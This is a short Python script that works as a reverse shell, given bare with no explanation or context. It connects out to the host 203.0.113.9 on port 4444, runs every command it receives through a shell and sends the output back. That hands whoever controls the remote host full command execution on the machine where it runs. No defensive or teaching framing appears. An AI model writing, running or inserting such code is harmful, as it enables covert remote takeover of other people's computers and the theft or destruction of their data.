import socket, subprocess
s = socket.socket()
s.connect(("203.0.113.9", 4444))
while True:
    command = s.recv(1024).decode()
    out = subprocess.Popen(command, shell=True, stdout=-1).communicate()[0]
    s.send(out)
